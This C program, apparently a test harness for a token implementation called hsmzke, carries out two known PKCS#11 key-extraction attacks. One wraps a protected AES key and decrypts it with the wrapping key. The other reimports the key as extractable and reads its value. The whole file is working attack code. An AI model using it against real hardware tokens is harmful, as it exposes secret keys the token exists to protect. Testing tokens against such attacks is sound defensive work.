/*
 * What a program that is logged in to a token can do with keys whose attributes let it: it prints
 * the bytes of a key that the token was to keep.  Nothing but Cryptoki; of hsmzke it knows nothing.
 *
 *   attacker MODULE TOKEN PIN decrypt WRAPPER KEY    wraps KEY under WRAPPER, decrypts the result
 *   attacker MODULE TOKEN PIN reimport WRAPPER KEY   unwraps it instead, as a key that can be read
 *
 * Exit status: 0, with 64 hexadecimal digits; 2: the token refused, with the call's name; 1: else.
 */
#include <dlfcn.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <p11-kit/pkcs11.h>

enum { KEY = 32, BLOCK = 16, HALF = 8, WRAPPED = KEY + HALF, HALVES = KEY / HALF };

static CK_FUNCTION_LIST *p11;
static CK_SESSION_HANDLE session;

static void must(CK_RV rv, const char *what)
{
    if (rv == CKR_OK)
        return;
    printf("%s: 0x%lx\n", what, (unsigned long)rv);
    fflush(stdout);
    _Exit(2);
}

static void die(const char *what)
{
    fprintf(stderr, "attacker: %s\n", what);
    fflush(stderr);
    _Exit(1);
}

static void load(const char *path)
{
    CK_C_GetFunctionList get_list;
    void *module = dlopen(path, RTLD_NOW | RTLD_LOCAL);
    void *symbol = module == NULL ? NULL : dlsym(module, "C_GetFunctionList");

    if (symbol == NULL)
        die("no PKCS#11 module");
    memcpy(&get_list, &symbol, sizeof(get_list));
    if (get_list(&p11) != CKR_OK || p11->C_Initialize(NULL) != CKR_OK)
        die("the module does not start");
}

static void login(const char *label, char *pin)
{
    CK_SLOT_ID slots[64];
    CK_ULONG count = 64;
    CK_TOKEN_INFO info;
    const size_t length = strlen(label);

    if (p11->C_GetSlotList(CK_TRUE, slots, &count) != CKR_OK)
        die("no slots");
    for (CK_ULONG i = 0; i < count; i++) {
        if (p11->C_GetTokenInfo(slots[i], &info) != CKR_OK || length > sizeof(info.label) ||
            memcmp(info.label, label, length) != 0)
            continue;
        if (p11->C_OpenSession(slots[i], CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL,
                               &session) != CKR_OK ||
            p11->C_Login(session, CKU_USER, (CK_UTF8CHAR *)pin, strlen(pin)) != CKR_OK)
            die("no login");
        return;
    }
    die("no such token");
}

static CK_OBJECT_HANDLE find(char *label)
{
    CK_ATTRIBUTE wanted = { CKA_LABEL, label, strlen(label) };
    CK_OBJECT_HANDLE found = 0;
    CK_ULONG count = 0;

    if (p11->C_FindObjectsInit(session, &wanted, 1) != CKR_OK ||
        p11->C_FindObjects(session, &found, 1, &count) != CKR_OK ||
        p11->C_FindObjectsFinal(session) != CKR_OK || count != 1)
        die("no such key");
    return found;
}

static void wrap(CK_OBJECT_HANDLE wrapper, CK_OBJECT_HANDLE key, unsigned char wrapped[WRAPPED])
{
    CK_MECHANISM mechanism = { CKM_AES_KEY_WRAP, NULL, 0 };
    CK_ULONG size = WRAPPED;

    must(p11->C_WrapKey(session, &mechanism, wrapper, key, wrapped, &size), "C_WrapKey");
    if (size != WRAPPED)
        die("a wrapped key of another size");
}

/* One block under the wrapping key, which was to be used for wrapping only. */
static void decrypt_block(CK_OBJECT_HANDLE wrapper, unsigned char block[BLOCK])
{
    CK_MECHANISM mechanism = { CKM_AES_ECB, NULL, 0 };
    unsigned char out[BLOCK];
    CK_ULONG size = BLOCK;

    must(p11->C_DecryptInit(session, &mechanism, wrapper), "C_DecryptInit");
    must(p11->C_Decrypt(session, block, BLOCK, out, &size), "C_Decrypt");
    memcpy(block, out, BLOCK);
}

/* RFC 3394, 2.2.2, with the token as its block cipher: unwrapping without C_UnwrapKey. */
static void decrypt(CK_OBJECT_HANDLE wrapper, const unsigned char wrapped[WRAPPED],
                    unsigned char key[KEY])
{
    static const unsigned char expected[HALF] = { 0xa6, 0xa6, 0xa6, 0xa6, 0xa6, 0xa6, 0xa6, 0xa6 };
    unsigned char block[BLOCK];

    memcpy(block, wrapped, HALF);
    memcpy(key, wrapped + HALF, KEY);
    for (int step = 6 * HALVES; step > 0; step--) {
        unsigned char *half = key + HALF * ((step - 1) % HALVES);

        block[HALF - 1] ^= (unsigned char)step;
        memcpy(block + HALF, half, HALF);
        decrypt_block(wrapper, block);
        memcpy(half, block + HALF, HALF);
    }
    if (memcmp(block, expected, HALF) != 0)
        die("what was decrypted is no wrapped key");
}

static void reimport(CK_OBJECT_HANDLE wrapper, unsigned char wrapped[WRAPPED],
                     unsigned char key[KEY])
{
    CK_MECHANISM mechanism = { CKM_AES_KEY_WRAP, NULL, 0 };
    CK_OBJECT_CLASS class = CKO_SECRET_KEY;
    CK_KEY_TYPE type = CKK_AES;
    CK_BBOOL yes = CK_TRUE, no = CK_FALSE;
    CK_ATTRIBUTE as[] = { { CKA_CLASS, &class, sizeof(class) },
                          { CKA_KEY_TYPE, &type, sizeof(type) },
                          { CKA_TOKEN, &no, sizeof(no) },
                          { CKA_SENSITIVE, &no, sizeof(no) },
                          { CKA_EXTRACTABLE, &yes, sizeof(yes) } };
    CK_ATTRIBUTE value = { CKA_VALUE, key, KEY };
    CK_OBJECT_HANDLE copy;

    must(p11->C_UnwrapKey(session, &mechanism, wrapper, wrapped, WRAPPED, as,
                          sizeof(as) / sizeof(as[0]), &copy),
         "C_UnwrapKey");
    must(p11->C_GetAttributeValue(session, copy, &value, 1), "C_GetAttributeValue");
}

int main(int argc, char **argv)
{
    unsigned char wrapped[WRAPPED], key[KEY];
    CK_OBJECT_HANDLE wrapper;

    if (argc != 7)
        die("usage: attacker MODULE TOKEN PIN decrypt|reimport WRAPPER KEY");
    load(argv[1]);
    login(argv[2], argv[3]);
    wrapper = find(argv[5]);
    wrap(wrapper, find(argv[6]), wrapped);
    if (strcmp(argv[4], "decrypt") == 0)
        decrypt(wrapper, wrapped, key);
    else if (strcmp(argv[4], "reimport") == 0)
        reimport(wrapper, wrapped, key);
    else
        die("no such attack");
    for (size_t i = 0; i < KEY; i++)
        printf("%02x", key[i]);
    putchar('\n');
    fflush(stdout);
    _Exit(0);
}
